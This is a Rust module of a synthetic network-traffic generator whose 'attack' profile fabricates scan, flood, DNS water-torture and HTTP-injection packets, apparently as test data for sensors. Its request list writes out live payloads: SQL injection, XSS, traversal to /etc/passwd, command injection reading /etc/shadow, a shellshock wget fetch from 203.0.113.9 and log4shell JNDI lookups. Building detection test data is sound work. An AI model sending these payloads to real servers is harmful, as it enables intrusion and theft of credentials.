//! The generator's `attack` profile: traffic of a network under attack, as a sensor sees it —
//! many short flows from many sources. Per flow: scan probes answered by a reset (2 packets),
//! spoofed SYNs (1), UDP flood datagrams of about 1.2 kB (1), random-subdomain DNS lookups
//! (2), and short HTTP sessions carrying injection requests (SQL, XSS, traversal, command and
//! JNDI injection, in the URI, a header or a POST body) with two response segments (7). Mixed
//! 30/10/15/20/25, that is about 3 packets per flow and 430-byte packets on average: 1.7
//! million packets hold about 570,000 flows.

use super::build::{self, Host, ACK, PSH, RST, SYN};
use super::rng::Rng;

type Frames = Vec<(u64, Vec<u8>)>;

/// Injection requests an attacker's tools send (sqlmap, XSS probes, traversal scanners,
/// shellshock and log4shell scanners), with the part that carries the attack varying.
const REQUESTS: [&str; 8] = [
    "GET /products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20 HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: sqlmap/1.8\r\nAccept: */*\r\n\r\n",
    "GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html\r\n\r\n",
    "GET /static/../../../../etc/passwd HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Nikto/2.5.0\r\nAccept: */*\r\n\r\n",
    "GET /cgi-bin/status HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: () { :; }; /bin/bash -c 'wget http://203.0.113.9/x.sh'\r\nAccept: */*\r\n\r\n",
    "GET /api?q=${jndi:ldap://203.0.113.7:1389/Exploit} HTTP/1.1\r\nHost: api.example.org\r\nUser-Agent: ${jndi:ldap://203.0.113.7/a}\r\nX-Api-Version: ${jndi:ldap://203.0.113.7/b}\r\n\r\n",
    "POST /login HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: python-requests/2.31\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 58\r\n\r\nusername=admin%27%20OR%20%271%27%3D%271&password=x%27--%20",
    "GET /ping.php?host=127.0.0.1;cat%20/etc/shadow HTTP/1.1\r\nHost: router.example.net\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n",
    "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0\r\nAccept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.9\r\n\r\n",
];

/// A source among 65,024 attacking addresses (two /24s of documentation space are too few
/// for "many sources": 100.64.0.0/10 shared space stands in for the internet).
fn source(rng: &mut Rng) -> Host {
    Host::new([
        100,
        u8::try_from(rng.range(64, 128)).unwrap_or(64),
        u8::try_from(rng.below(256)).unwrap_or(0),
        u8::try_from(rng.range(1, 255)).unwrap_or(1),
    ])
}

/// One of the 64 servers under attack.
fn victim(rng: &mut Rng) -> Host {
    Host::new([192, 0, 2, u8::try_from(rng.range(10, 74)).unwrap_or(10)])
}

fn port(rng: &mut Rng) -> u16 {
    u16::try_from(rng.range(1024, 65_535)).unwrap_or(40_000)
}

/// A probe of one port, answered by a reset (closed port).
fn scan_probe(rng: &mut Rng, t: u64) -> Frames {
    let (a, v, sport) = (source(rng), victim(rng), port(rng));
    let dport = u16::try_from(rng.range(1, 10_000)).unwrap_or(80);
    let seq = rng.next_u64() as u32;
    vec![
        (t, build::tcp(a, v, sport, dport, seq, 0, SYN, &[])),
        (
            t + rng.range(50, 400),
            build::tcp(v, a, dport, sport, 0, seq.wrapping_add(1), RST | ACK, &[]),
        ),
    ]
}

/// One SYN of a flood from a spoofed source.
fn spoofed_syn(rng: &mut Rng, t: u64) -> Frames {
    let (a, v, sport) = (source(rng), victim(rng), port(rng));
    let seq = rng.next_u64() as u32;
    vec![(t, build::tcp(a, v, sport, 80, seq, 0, SYN, &[]))]
}

/// One datagram of a UDP flood.
fn udp_flood(rng: &mut Rng, t: u64) -> Frames {
    let (a, v, sport) = (source(rng), victim(rng), port(rng));
    let dport = u16::try_from(rng.range(1, 65_535)).unwrap_or(53);
    let len = usize::try_from(rng.range(1_000, 1_400)).unwrap_or(1_200);
    let fill = u8::try_from(rng.below(256)).unwrap_or(0x41);
    vec![(t, build::udp(a, v, sport, dport, &vec![fill; len]))]
}

/// A lookup of a random subdomain (water torture), answered.
fn dns_random(rng: &mut Rng, t: u64) -> Frames {
    let (c, sport, id) = (source(rng), port(rng), rng.u16());
    let label: String = (0..16)
        .map(|_| {
            char::from(
                b"abcdefghijklmnopqrstuvwxyz0123456789"
                    [usize::try_from(rng.below(36)).unwrap_or(0)],
            )
        })
        .collect();
    let name = format!("{label}.victim-example.com");
    let resolver = Host::new([192, 0, 2, 53]);
    let q = build::dns_query(id, &name, 1);
    let a = build::dns_answer_a(id, &name, None);
    vec![
        (t, build::udp(c, resolver, sport, 53, &q)),
        (
            t + rng.range(200, 2_000),
            build::udp(resolver, c, 53, sport, &a),
        ),
    ]
}

/// A short HTTP session carrying one attack request: handshake, request, two response
/// segments, reset by the client.
fn http_attack(rng: &mut Rng, t: u64) -> Frames {
    let (a, v, sport) = (source(rng), victim(rng), port(rng));
    let req = rng.pick(&REQUESTS).as_bytes();
    let (mut cs, mut ss) = (rng.next_u64() as u32, rng.next_u64() as u32);
    let rtt = rng.range(100, 2_000);
    let mut f = Vec::with_capacity(7);
    let mut t = t;
    f.push((t, build::tcp(a, v, sport, 80, cs, 0, SYN, &[])));
    t += rtt;
    f.push((
        t,
        build::tcp(v, a, 80, sport, ss, cs.wrapping_add(1), SYN | ACK, &[]),
    ));
    cs = cs.wrapping_add(1);
    ss = ss.wrapping_add(1);
    t += 20;
    f.push((t, build::tcp(a, v, sport, 80, cs, ss, ACK, &[])));
    t += 30;
    f.push((t, build::tcp(a, v, sport, 80, cs, ss, PSH | ACK, req)));
    cs = cs.wrapping_add(u32::try_from(req.len()).unwrap_or(0));
    let mut body =
        b"HTTP/1.1 403 Forbidden\r\nContent-Type: text/html\r\nContent-Length: 2800\r\n\r\n"
            .to_vec();
    body.resize(1_400, b'x');
    for _ in 0..2 {
        t += rtt / 2 + 10;
        f.push((t, build::tcp(v, a, 80, sport, ss, cs, PSH | ACK, &body)));
        ss = ss.wrapping_add(1_400);
        body.fill(b'y');
    }
    t += 15;
    f.push((t, build::tcp(a, v, sport, 80, cs, ss, RST | ACK, &[])));
    f
}

/// One flow of the attack profile.
pub fn flow(rng: &mut Rng, t: u64) -> Frames {
    match rng.below(100) {
        0..=29 => scan_probe(rng, t),
        30..=39 => spoofed_syn(rng, t),
        40..=54 => udp_flood(rng, t),
        55..=74 => dns_random(rng, t),
        _ => http_attack(rng, t),
    }
}
